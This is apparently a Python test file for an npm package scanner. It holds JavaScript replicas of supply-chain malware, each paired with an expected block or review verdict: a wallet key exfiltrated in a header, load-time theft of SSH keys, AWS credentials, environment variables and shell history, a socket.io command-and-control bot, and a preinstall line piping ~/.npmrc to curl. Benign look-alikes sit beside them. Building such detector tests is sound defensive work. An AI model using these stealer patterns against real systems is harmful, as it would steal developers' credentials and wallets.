# ruff: noqa: E501 — JavaScript fixtures read best one statement a line
"""Source → sink data flow: secrets reaching the network through variables, objects, encoders, helpers,
class fields and relative modules (airlock.analysis.dataflow), and clients that send their own credential
to their own service. Hosts are defanged (`.invalid`, `example.com`); nothing here works as malware."""

from __future__ import annotations

from tests.incidents.replica import Replica

INCIDENTS: list[Replica] = [
    # @solana/web3.js 1.95.6 (Dec 2024): Keypair code passed the secret key through a helper
    # (`addToQueue`) that sent it, hex-encoded, in a request header to a look-alike host.
    Replica(
        "solana-web3-keypair-header",
        {
            "lib/index.js": (
                "const nodeFetch = require('node-fetch');\n"
                "function addToQueue(data) {\n"
                "  nodeFetch('https://sol-rpc.invalid/rpc', { method: 'POST',\n"
                "    headers: { 'x-amz-cf-id': data, 'Content-Type': 'application/json' } });\n"
                "}\n"
                "class Keypair {\n"
                "  constructor(secretKey) { this._keypair = { secretKey: secretKey }; }\n"
                "  static fromSecretKey(secretKey) {\n"
                "    const kp = new Keypair(secretKey);\n"
                "    addToQueue(Buffer.from(kp._keypair.secretKey).toString('hex'));\n"
                "    return kp;\n"
                "  }\n"
                "}\n"
                "module.exports = { Keypair };\n"
            ),
        },
        "block",
        frozenset({"credential-exfiltration"}),
        manifest={"main": "lib/index.js"},
        name="solana-web3-replica",
    ),
    # xrpl.js 4.2.1 (Apr 2025): a library function checking a seed's validity posted the seed.
    Replica(
        "xrpl-seed-check",
        {
            "src/wallet.js": (
                "const axios = require('axios');\n"
                "function checkValidityOfSeed(seed) {\n"
                "  const body = JSON.stringify({ s: seed, t: Date.now() });\n"
                "  return axios.post('https://0x9c.invalid/check', body);\n"
                "}\n"
                "exports.fromSeed = function fromSeed(seed) { checkValidityOfSeed(seed); return { seed }; };\n"
            ),
        },
        "block",
        frozenset({"credential-exfiltration"}),
        manifest={"main": "src/wallet.js"},
        name="xrpl-replica",
    ),
    # Stealers (e.g. the 2024–2025 "ssh key + aws credentials at import" family): read ~/.ssh and ~/.aws
    # through path.join(os.homedir(), …) at module load and post them.
    Replica(
        "load-time-ssh-aws-stealer",
        {
            "index.js": (
                "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
                "const https = require('https');\n"
                "const files = [path.join(os.homedir(), '.ssh', 'id_rsa'), path.join(os.homedir(), '.aws', 'credentials')];\n"
                "const loot = {};\n"
                "for (const f of files) { try { loot[f] = fs.readFileSync(f, 'utf8'); } catch (e) {} }\n"
                "const req = https.request({ hostname: 'collector.example.com', path: '/u', method: 'POST' });\n"
                "req.end(Buffer.from(JSON.stringify(loot)).toString('base64'));\n"
            ),
        },
        "block",
        frozenset({"credential-exfiltration"}),
        name="color-helpers-lite",
    ),
    # Environment dump over HTTPS from the entry point (dependency-confusion and token-theft packages).
    Replica(
        "env-dump-https-entry",
        {
            "index.js": (
                "const https = require('https');\n"
                "const payload = { env: process.env, cwd: process.cwd() };\n"
                "const req = https.request('https://metrics.example.com/v1', { method: 'POST' });\n"
                "req.write(JSON.stringify(payload));\nreq.end();\n"
            ),
        },
        "block",
        frozenset({"credential-exfiltration"}),
        name="internal-build-metrics",
    ),
    # A secret through a class field, sent from a method called at load.
    Replica(
        "secret-through-class-field",
        {
            "index.js": (
                "const https = require('https');\n"
                "class Reporter {\n"
                "  constructor() { this.token = process.env.NPM_TOKEN; }\n"
                "  flush() { https.get('https://cdn-stats.example.com/p?d=' + encodeURIComponent(this.token)); }\n"
                "}\n"
                "new Reporter().flush();\n"
            ),
        },
        "block",
        frozenset({"credential-exfiltration"}),
        name="reporter-utils",
    ),
    # Cross-file: the entry collects, a helper module sends what it is given.
    Replica(
        "cross-file-helper-send",
        {
            "index.js": (
                "const send = require('./lib/send');\n"
                "const data = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&');\n"
                "send(data);\n"
            ),
            "lib/send.js": (
                "const https = require('https');\n"
                "module.exports = function send(body) {\n"
                "  const req = https.request({ host: 'sync.example.com', method: 'POST' });\n"
                "  req.end(body);\n"
                "};\n"
            ),
        },
        "block",
        frozenset({"credential-exfiltration"}),
        name="env-sync-lite",
    ),
    # Cross-file the other way: a module returns the secret, the entry posts it.
    Replica(
        "cross-file-collect-return",
        {
            "index.js": (
                "const collect = require('./collect');\n"
                "fetch('https://paste.example.com/api', { method: 'POST', body: collect() });\n"
            ),
            "collect.js": (
                "const fs = require('fs'); const os = require('os');\n"
                "module.exports = () => fs.readFileSync(os.homedir() + '/.bash_history', 'utf8');\n"
            ),
        },
        "block",
        frozenset({"credential-exfiltration"}),
        name="history-helper",
    ),
    # A harvest in a file with more network calls than the data-flow pass follows (its sink cap): the
    # co-occurrence is all that is left, and goes to review.
    Replica(
        "harvest-in-file-past-flow-cap",
        {
            "index.js": (
                "const fs = require('fs');\n"
                "const rc = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
                + "fetch('https://api.example.com/ping');\n" * 401
                + "module.exports = rc.length;\n"
            ),
        },
        "review",
        frozenset({"secrets-with-network"}),
        name="ping-many",
    ),
    # Remote-control bots using a socket.io client as their C2 channel (a shape in npm malware reports
    # 2023–2025; this replicates the shape, not one package): connect out at load, run what is sent.
    Replica(
        "socketio-command-bot",
        {
            "index.js": (
                "const io = require('socket.io-client'); const { exec } = require('child_process');\n"
                "const socket = io('https://c2.example.com');\n"
                "socket.on('command', (cmd) => { exec(cmd, (err, out) => socket.emit('result', out)); });\n"
            ),
        },
        "block",
        frozenset({"remote-command-execution"}),
        name="console-window-helper",
    ),
    Replica(
        # The shape of a CLI "diagnostics" helper gone bad: the whole environment posted to a fixed host from
        # an exported function. Nothing runs it at load, so it is reviewed (high), not blocked.
        "exported-env-upload",
        {
            "index.js": (
                "const https = require('https');\n"
                "exports.reportProblem = function reportProblem(note) {\n"
                "  const body = JSON.stringify({ note, env: process.env });\n"
                "  const req = https.request({ host: 'diag.example.com', method: 'POST', path: '/r' });\n"
                "  req.end(body);\n"
                "};\n"
            )
        },
        "review",
        frozenset({"secret-flow-in-function"}),
    ),
    # A preinstall shell line that pipes ~/.npmrc to curl: no JS to follow, the shell text decides.
    Replica(
        "preinstall-shell-npmrc-post",
        {"index.js": "module.exports = 1;\n"},
        "block",
        frozenset({"install-secrets-network"}),
        manifest={
            "scripts": {
                "preinstall": "cat ~/.npmrc | curl -X POST --data-binary @- https://collect.example.com/"
            }
        },
    ),
]

BENIGN: list[Replica] = [
    # Wallet libraries (ethers, @solana/web3.js proper): keys sign locally; only signatures are sent.
    Replica(
        "wallet-signs-locally",
        {
            "index.js": (
                "const crypto = require('crypto');\n"
                "class Wallet {\n"
                "  constructor(privateKey) { this.privateKey = privateKey; }\n"
                "  signTx(tx) { return crypto.sign(null, Buffer.from(JSON.stringify(tx)), this.privateKey); }\n"
                "  async send(tx, rpc) {\n"
                "    const signature = this.signTx(tx).toString('base64');\n"
                "    return fetch(rpc, { method: 'POST', body: JSON.stringify({ tx, signature }) });\n"
                "  }\n"
                "}\n"
                "module.exports = { Wallet };\n"
            ),
        },
        "allow",
        frozenset(),
    ),
    # AWS SigV4-style signing: the secret key only feeds an HMAC; the signature goes in the header.
    Replica(
        "aws-hmac-signing",
        {
            "index.js": (
                "const crypto = require('crypto'); const https = require('https');\n"
                "function sign(key, msg) { return crypto.createHmac('sha256', key).update(msg).digest(); }\n"
                "function request(body) {\n"
                "  const secret = process.env.AWS_SECRET_ACCESS_KEY;\n"
                "  const signature = sign(sign('AWS4' + secret, '20250101'), body).toString('hex');\n"
                "  const req = https.request({ hostname: 'sts.example.com', method: 'POST',\n"
                "    headers: { Authorization: 'AWS4-HMAC-SHA256 Signature=' + signature } });\n"
                "  req.end(body);\n"
                "}\n"
                "module.exports = request;\n"
            ),
        },
        "allow",
        frozenset(),
    ),
    # Release downloaders (prebuild tools) send GITHUB_TOKEN to the GitHub API.
    Replica(
        "github-token-release-download",
        {
            "index.js": (
                "const https = require('https');\n"
                "function latest(repo, done) {\n"
                "  const token = process.env.GITHUB_TOKEN;\n"
                "  https.get({ hostname: 'api.github.com', path: '/repos/' + repo + '/releases/latest',\n"
                "    headers: { Authorization: 'token ' + token, 'User-Agent': 'acme' } }, done);\n"
                "}\n"
                "module.exports = latest;\n"
            ),
        },
        "allow",
        frozenset(),
    ),
    # Telemetry SDKs post to their own endpoint with a key configured in the environment.
    Replica(
        "telemetry-own-endpoint",
        {
            "index.js": (
                "const https = require('https');\n"
                "const endpoint = process.env.ACME_ENDPOINT || 'https://ingest.acme.example.com/v1';\n"
                "function track(event) {\n"
                "  const req = https.request(endpoint, { method: 'POST',\n"
                "    headers: { 'x-api-key': process.env.ACME_API_KEY } });\n"
                "  req.end(JSON.stringify(event));\n"
                "}\n"
                "module.exports = { track };\n"
            ),
        },
        "allow",
        frozenset(),
    ),
    # npm CLIs read ~/.npmrc for the registry and its token and send the token only there.
    Replica(
        "npmrc-token-to-configured-registry",
        {
            "index.js": (
                "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
                "const https = require('https');\n"
                "function publishInfo(name) {\n"
                "  const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\n"
                "  const registry = (/registry=(.*)/.exec(rc) || [])[1] || process.env.npm_config_registry;\n"
                "  const token = (/_authToken=(.*)/.exec(rc) || [])[1];\n"
                "  return https.get(registry + name, { headers: { authorization: 'Bearer ' + token } });\n"
                "}\n"
                "module.exports = publishInfo;\n"
            ),
        },
        "allow",
        frozenset(),
    ),
    # Dev servers and CI agents run commands they are configured with, and talk to the network elsewhere.
    Replica(
        "dev-server-runs-configured-command",
        {
            "index.js": (
                "const { exec } = require('child_process'); const http = require('http');\n"
                "module.exports = function serve(config) {\n"
                "  http.createServer((req, res) => { res.end('ok'); }).listen(config.port);\n"
                "  exec(config.buildCommand, (err) => { if (err) console.error(err); });\n"
                "};\n"
            ),
        },
        "allow",
        frozenset(),
    ),
    # Public-suffix lists (psl): big tables of domains next to a fetch; nothing secret reaches it.
    Replica(
        "public-suffix-table",
        {
            "index.js": (
                "const rules = ['webhook.site', 'ngrok.io', 'pastebin.com', 'github.io'];\n"
                "const home = process.env.HOME;\n"
                "module.exports.update = () => fetch('https://publicsuffix.org/list/public_suffix_list.dat')\n"
                "  .then((r) => r.text());\n"
                "module.exports.rules = rules;\n"
            ),
        },
        "review",
        frozenset(),
        note="exfiltration-host (medium) stays for the named hosts; nothing flows",
    ),
]

LOOKALIKES: dict[str, tuple[str, ...]] = {
    "credential-exfiltration": (
        "wallet-signs-locally",
        "aws-hmac-signing",
        "github-token-release-download",
        "telemetry-own-endpoint",
        "npmrc-token-to-configured-registry",
        "public-suffix-table",
    ),
    "secret-flow-in-function": (
        "wallet-signs-locally",
        "aws-hmac-signing",
        "telemetry-own-endpoint",
        "npmrc-token-to-configured-registry",
    ),
    "secrets-with-network": ("npmrc-token-to-configured-registry", "aws-hmac-signing"),
    "remote-command-execution": ("dev-server-runs-configured-command",),
}
